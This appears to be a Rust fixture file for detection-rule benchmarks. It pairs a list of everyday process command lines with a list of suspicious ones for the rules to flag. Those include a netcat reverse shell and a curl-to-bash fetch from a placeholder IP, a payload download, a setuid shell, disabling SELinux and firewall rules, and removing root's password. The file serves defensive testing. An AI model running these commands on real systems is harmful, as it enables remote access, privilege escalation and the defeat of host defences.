//! The process-event mix of the rule and end-to-end benches: everyday programs no rule of
//! the standard pack flags, and suspicious commands its rules look for.

pub(crate) const PROGRAMS: &[(&str, &str)] = &[
    ("/usr/bin/python3", "python3 /opt/app/worker.py --job {n} --queue default"),
    ("/usr/bin/bash", "bash -c 'cd /var/lib/app && ./run.sh {n}'"),
    ("/usr/sbin/sshd", "sshd: app [priv] {n}"),
    ("/usr/bin/git", "git fetch origin refs/heads/main --depth {n}"),
    ("/usr/bin/node", "node /srv/web/server.js --port 8080 --worker {n}"),
    ("/usr/bin/java", "java -Xmx2g -jar /opt/kafka/libs/app.jar --id {n}"),
    ("/usr/bin/jq", "jq -r .items[{n}].name /srv/data/items.json"),
    ("/usr/bin/ls", "ls -la /home/app/{n}"),
    ("/usr/bin/gzip", "gzip -9 /var/log/app/{n}.log"),
    ("/usr/bin/tar", "tar czf /backup/{n}.tgz /srv/data"),
    ("/usr/bin/systemctl", "systemctl status app-{n}.service"),
    ("/usr/bin/docker", "docker run --rm -v /data:/data image:{n}"),
    ("/usr/bin/make", "make -j2 target-{n}"),
    ("/usr/bin/rsync", "rsync -az /srv/ backup:/srv/{n}/"),
    ("/usr/bin/awk", "awk -F: '{print $1}' /tmp/{n}.txt"),
    ("/usr/bin/sed", "sed -n 1,5p /srv/app/{n}.txt"),
    ("/usr/bin/du", "du -sh /var/tmp/{n}"),
    ("/usr/bin/ps", "ps aux --sort -rss {n}"),
    ("/usr/bin/cron", "/usr/sbin/CRON -f {n}"),
    ("/usr/bin/perl", "perl -e 'print {n}'"),
];
// Suspicious commands for a real pack (what its rules look for, with realistic noise).
pub(crate) const SUSPICIOUS: &[(&str, &str)] = &[
    ("/usr/bin/base64", "base64 -d /tmp/payload.b64"),
    ("/usr/bin/nc", "nc -e /bin/sh 198.51.100.7 4444"),
    ("/usr/bin/chmod", "chmod +s /tmp/.x/bash"),
    ("/usr/bin/crontab", "crontab -r"),
    ("/usr/bin/history", "history -c"),
    ("/usr/sbin/iptables", "iptables -F"),
    ("/usr/bin/curl", "curl -fsSL http://198.51.100.7/x.sh | bash"),
    ("/usr/bin/python3", "python3 -c 'import pty;pty.spawn(\"/bin/bash\")'"),
    ("/usr/bin/wget", "wget http://198.51.100.7/a -O /tmp/a"),
    ("/usr/bin/setenforce", "setenforce 0"),
    ("/usr/bin/passwd", "passwd -d root"),
    ("/usr/bin/find", "find / -perm -4000 -type f"),
];
